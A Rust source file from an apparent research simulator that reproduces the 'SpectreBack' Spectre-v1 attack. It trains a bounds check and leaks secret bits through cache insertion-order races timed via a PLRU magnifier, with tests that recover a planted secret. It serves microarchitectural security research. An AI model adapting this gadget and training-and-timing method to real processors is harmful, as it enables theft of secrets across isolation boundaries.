//! SpectreBack: the backwards-in-time Spectre attack (paper §7.3,
//! Code Listing 3).
//!
//! A Spectre-v1 bounds-check bypass reads a secret bit and, *still inside
//! the transient window*, warms one of two lines (`OFF0`/`OFF1`). Two
//! pointer-chase paths — **earlier in program order** than the speculative
//! access — race through those lines to terminal accesses of the PLRU
//! magnifier's `A` and `B`. Out-of-order execution runs the speculative
//! access first, so by the time the mispredicted bounds check resolves and
//! rolls everything back, the secret has already been converted into the
//! *insertion order* of `A` and `B`: the leak happened **before** the
//! misspeculation was discovered, which is what defeats rollback-based
//! mitigations (§8).

use crate::layout::Layout;
use crate::machine::Machine;
use crate::magnify::{PlruInput, PlruMagnifier};
use crate::path::{emit_sync_head, PathSpec};
use racer_isa::{Asm, Cond, MemOperand, Program};
use racer_mem::Addr;
use racer_time::Timer;

/// Result of leaking a run of secret bytes.
#[derive(Clone, Debug)]
pub struct LeakReport {
    /// The recovered bytes.
    pub recovered: Vec<u8>,
    /// Total bits transmitted.
    pub bits: usize,
    /// Simulated time spent, in nanoseconds.
    pub elapsed_ns: f64,
    /// Effective leak rate in kilobits per second.
    pub kbps: f64,
}

/// Driver for the SpectreBack attack.
#[derive(Clone, Debug)]
pub struct SpectreBack {
    layout: Layout,
    /// In-bounds length of the attacker-visible array (the bounds check's
    /// limit).
    pub array_len: u64,
    /// Branch-training iterations per byte.
    pub train_iters: usize,
    /// Reorder-magnifier rounds per bit readout.
    pub magnifier_rounds: usize,
}

impl SpectreBack {
    /// A driver with the default geometry (4 KiB in-bounds array, 1000
    /// magnifier rounds).
    pub fn new(layout: Layout) -> Self {
        SpectreBack {
            layout,
            array_len: 4096,
            train_iters: 4,
            magnifier_rounds: 1000,
        }
    }

    // Gadget inputs, all in the x-flag region on distinct lines.
    fn x_addr(&self) -> Addr {
        self.layout.x_flag
    }
    fn k_addr(&self) -> Addr {
        Addr(self.layout.x_flag.0 + 64)
    }
    fn size_addr(&self) -> Addr {
        Addr(self.layout.x_flag.0 + 128)
    }
    /// The two transmit lines the speculative access warms (256 bytes = 4
    /// lines apart, so `bit << 8` selects between them).
    fn off_addr(&self, bit: u64) -> Addr {
        Addr(self.layout.chase_base.0 + bit * 256)
    }

    /// The magnifier whose `A`/`B` lines the chase paths terminate in.
    pub fn magnifier(&self) -> PlruMagnifier {
        PlruMagnifier::with(self.layout, 5, self.magnifier_rounds)
    }

    /// Build the gadget program (one program serves every byte and bit:
    /// the secret index and bit number are memory inputs).
    ///
    /// ```text
    /// seed = load [sync] & 0              ; flushed head (§4.1)
    /// path_m: [OFF0, A] masked chase      ; racing gadget, program-order FIRST
    /// path_b: [OFF1, B] masked chase
    /// rx  = load [X]                      ; warm inputs
    /// rk  = load [K]
    /// rsz = load [SIZE]                   ; flushed → late branch resolution
    /// br rx >= rsz → skip                 ; the bounds check (trained not-taken)
    /// sv  = load [array + rx]             ; the out-of-bounds secret read
    /// t   = ((sv >> rk) & 1) << 8
    /// tv  = load [OFF + t]                ; warms OFF0 or OFF1 ← the leak
    /// skip: halt
    /// ```
    pub fn program(&self, m: &Machine) -> Program {
        let mag = self.magnifier();
        let (a, b) = (mag.line_a(m), mag.line_b(m));
        let mut asm = Asm::new();
        let seed = emit_sync_head(&mut asm, self.layout.sync);
        PathSpec::load_chain([self.off_addr(0), a]).emit(&mut asm, seed);
        PathSpec::load_chain([self.off_addr(1), b]).emit(&mut asm, seed);

        let rx = asm.reg();
        asm.load(rx, MemOperand::abs(self.x_addr().0));
        let rk = asm.reg();
        asm.load(rk, MemOperand::abs(self.k_addr().0));
        let rsz = asm.reg();
        asm.load(rsz, MemOperand::abs(self.size_addr().0));
        let skip = asm.fwd_label();
        asm.br(Cond::Ge, rx, rsz, skip);
        let sv = asm.reg();
        asm.load(
            sv,
            MemOperand::base_disp(rx, self.layout.array_base.0 as i64),
        );
        let t1 = asm.reg();
        asm.shr(t1, sv, rk);
        let t2 = asm.reg();
        asm.and(t2, t1, 1i64);
        let t3 = asm.reg();
        asm.shl(t3, t2, 8i64);
        let tv = asm.reg();
        asm.load(
            tv,
            MemOperand::base_disp(t3, self.layout.chase_base.0 as i64),
        );
        asm.bind(skip);
        asm.halt();
        asm.assemble().expect("SpectreBack gadget assembles")
    }

    /// Write the victim's secret bytes (as one word per byte, the layout the
    /// out-of-bounds read sees) and the bounds value.
    pub fn plant_secret(&self, m: &mut Machine, secret: &[u8]) {
        m.cpu_mut()
            .mem_mut()
            .write(self.size_addr().0, self.array_len);
        for (i, &byte) in secret.iter().enumerate() {
            m.cpu_mut()
                .mem_mut()
                .write(self.layout.secret_base.0 + i as u64 * 8, byte as u64);
        }
    }

    /// Train the bounds check with an in-bounds index.
    pub fn train(&self, m: &mut Machine, prog: &Program) {
        m.cpu_mut().mem_mut().write(self.x_addr().0, 0);
        for addr in [self.x_addr(), self.k_addr(), self.size_addr()] {
            m.warm(addr);
        }
        for _ in 0..self.train_iters {
            m.flush(self.layout.sync);
            m.run(prog);
        }
    }

    /// One transmission: run the gadget for (`byte_idx`, `bit`), then read
    /// the magnifier through `timer`. Returns the observed nanoseconds
    /// (small = `B` first = bit 1; large = `A` first = bit 0).
    pub fn transmit(
        &self,
        m: &mut Machine,
        prog: &Program,
        byte_idx: usize,
        bit: u32,
        timer: &mut dyn Timer,
    ) -> f64 {
        let mag = self.magnifier();
        let x = self.layout.secret_base.0 - self.layout.array_base.0 + byte_idx as u64 * 8;
        m.cpu_mut().mem_mut().write(self.x_addr().0, x);
        m.cpu_mut().mem_mut().write(self.k_addr().0, bit as u64);
        for addr in [self.x_addr(), self.k_addr()] {
            m.warm(addr);
        }
        // The victim touched its secret recently (standard Spectre-v1
        // assumption): its line is warm so the transient read is quick.
        m.warm(Addr(self.layout.array_base.0 + x));

        mag.prepare(m);
        for addr in [
            self.layout.sync,
            self.off_addr(0),
            self.off_addr(1),
            self.size_addr(),
        ] {
            m.flush(addr);
        }
        m.run(prog);
        m.run_timed(&mag.program(m, PlruInput::Reorder), timer)
    }

    /// Calibrate the bit-decision threshold using attacker-known in-bounds
    /// data (index 0 of the attacker's own array, planted with 0 then 1).
    pub fn calibrate(&self, m: &mut Machine, prog: &Program, timer: &mut dyn Timer) -> f64 {
        let mut readings = [0.0f64; 2];
        for known in [0u64, 1] {
            m.cpu_mut().mem_mut().write(self.layout.array_base.0, known);
            let mag = self.magnifier();
            m.cpu_mut().mem_mut().write(self.x_addr().0, 0);
            m.cpu_mut().mem_mut().write(self.k_addr().0, 0);
            m.warm(Addr(self.layout.array_base.0));
            mag.prepare(m);
            for addr in [self.layout.sync, self.off_addr(0), self.off_addr(1)] {
                m.flush(addr);
            }
            m.run(prog);
            readings[known as usize] = m.run_timed(&mag.program(m, PlruInput::Reorder), timer);
        }
        (readings[0] + readings[1]) / 2.0
    }

    /// Leak `n` bytes of the planted secret through `timer`.
    pub fn leak_bytes(&self, m: &mut Machine, n: usize, timer: &mut dyn Timer) -> LeakReport {
        let prog = self.program(m);
        let start_ns = m.elapsed_ns();
        self.train(m, &prog);
        let threshold = self.calibrate(m, &prog, timer);
        let mut recovered = Vec::with_capacity(n);
        for byte_idx in 0..n {
            let mut byte = 0u8;
            for bit in 0..8u32 {
                // Re-train before every transmission: each detection
                // mispredicts, and two consecutive mispredictions would
                // saturate the 2-bit counter towards taken, closing the
                // transient window.
                self.train(m, &prog);
                let observed = self.transmit(m, &prog, byte_idx, bit, timer);
                if observed < threshold {
                    byte |= 1 << bit;
                }
            }
            recovered.push(byte);
        }
        let elapsed_ns = m.elapsed_ns() - start_ns;
        let bits = n * 8;
        LeakReport {
            recovered,
            bits,
            elapsed_ns,
            kbps: racer_time::stats::leak_rate_kbps(bits as u64, elapsed_ns),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use racer_time::{CoarseTimer, PerfectTimer};

    const SECRET: &[u8] = b"HACKY";

    #[test]
    fn leaks_secret_with_perfect_timer() {
        let mut m = Machine::baseline();
        let atk = SpectreBack::new(m.layout());
        atk.plant_secret(&mut m, SECRET);
        let report = atk.leak_bytes(&mut m, SECRET.len(), &mut PerfectTimer);
        assert_eq!(
            report.recovered, SECRET,
            "baseline machine must leak perfectly"
        );
        assert!(report.kbps > 0.1);
    }

    #[test]
    fn leaks_secret_with_5us_browser_timer() {
        let mut m = Machine::baseline();
        let atk = SpectreBack::new(m.layout());
        atk.plant_secret(&mut m, SECRET);
        let mut timer = CoarseTimer::browser_5us();
        let report = atk.leak_bytes(&mut m, SECRET.len(), &mut timer);
        let correct_bits: u32 = report
            .recovered
            .iter()
            .zip(SECRET)
            .map(|(a, b)| 8 - (a ^ b).count_ones())
            .sum();
        let accuracy = correct_bits as f64 / (SECRET.len() * 8) as f64;
        assert!(
            accuracy > 0.88,
            "coarse-timer accuracy must beat the paper's 88%: {accuracy:.2} ({:?})",
            report.recovered
        );
    }

    /// The headline property: the race (A/B insertion order) settles before
    /// the mispredicted bounds check resolves — the leak is backwards in
    /// time with respect to the squash.
    #[test]
    fn leak_lands_before_the_squash() {
        let mut m = Machine::baseline();
        let atk = SpectreBack::new(m.layout());
        atk.plant_secret(&mut m, &[0xA5]);
        let prog = atk.program(&m);
        atk.train(&mut m, &prog);

        let mag = atk.magnifier();
        let (a, b) = (mag.line_a(&m), mag.line_b(&m));
        let x = atk.layout.secret_base.0 - atk.layout.array_base.0;
        m.cpu_mut().mem_mut().write(atk.x_addr().0, x);
        m.cpu_mut().mem_mut().write(atk.k_addr().0, 0);
        m.warm(Addr(atk.layout.array_base.0 + x));
        mag.prepare(&mut m);
        for addr in [
            atk.layout.sync,
            atk.off_addr(0),
            atk.off_addr(1),
            atk.size_addr(),
        ] {
            m.flush(addr);
        }
        let r = m.run(&prog);
        assert!(r.mispredicts >= 1, "the bounds check must mispredict");

        let find = |addr: Addr| {
            r.loads
                .iter()
                .find(|l| l.addr == addr.0)
                .map(|l| l.issue_cycle)
                .unwrap()
        };
        // The secret-dependent access sits *after* the race in program
        // order, yet out-of-order execution runs it long before the racing
        // terminal accesses — the "backwards in time" transmission.
        let transient = r
            .loads
            .iter()
            .find(|l| !l.committed && (l.addr == atk.off_addr(0).0 || l.addr == atk.off_addr(1).0))
            .expect("the secret-dependent access must have issued transiently");
        assert!(
            transient.issue_cycle < find(a) && transient.issue_cycle < find(b),
            "the transient leak must precede the race it feeds"
        );
        // Rollback happened (the access never committed), yet the verdict
        // already sits in the A/B insertion order — squashing cannot undo it.
        assert!(!transient.committed);
    }

    /// Bit value controls which transmit line gets the transient warm,
    /// which controls the insertion order.
    #[test]
    fn bit_value_flips_insertion_order() {
        for (byte, expect_a_first) in [(0x00u8, true), (0x01u8, false)] {
            let mut m = Machine::baseline();
            let atk = SpectreBack::new(m.layout());
            atk.plant_secret(&mut m, &[byte]);
            let prog = atk.program(&m);
            atk.train(&mut m, &prog);

            let mag = atk.magnifier();
            let (a, b) = (mag.line_a(&m), mag.line_b(&m));
            let x = atk.layout.secret_base.0 - atk.layout.array_base.0;
            m.cpu_mut().mem_mut().write(atk.x_addr().0, x);
            m.cpu_mut().mem_mut().write(atk.k_addr().0, 0);
            m.warm(Addr(atk.layout.array_base.0 + x));
            mag.prepare(&mut m);
            for addr in [
                atk.layout.sync,
                atk.off_addr(0),
                atk.off_addr(1),
                atk.size_addr(),
            ] {
                m.flush(addr);
            }
            let r = m.run(&prog);
            let issue = |addr: Addr| {
                r.loads
                    .iter()
                    .find(|l| l.addr == addr.0)
                    .map(|l| l.issue_cycle)
                    .unwrap()
            };
            assert_eq!(
                issue(a) < issue(b),
                expect_a_first,
                "bit {byte:#x}: wrong insertion order"
            );
        }
    }
}
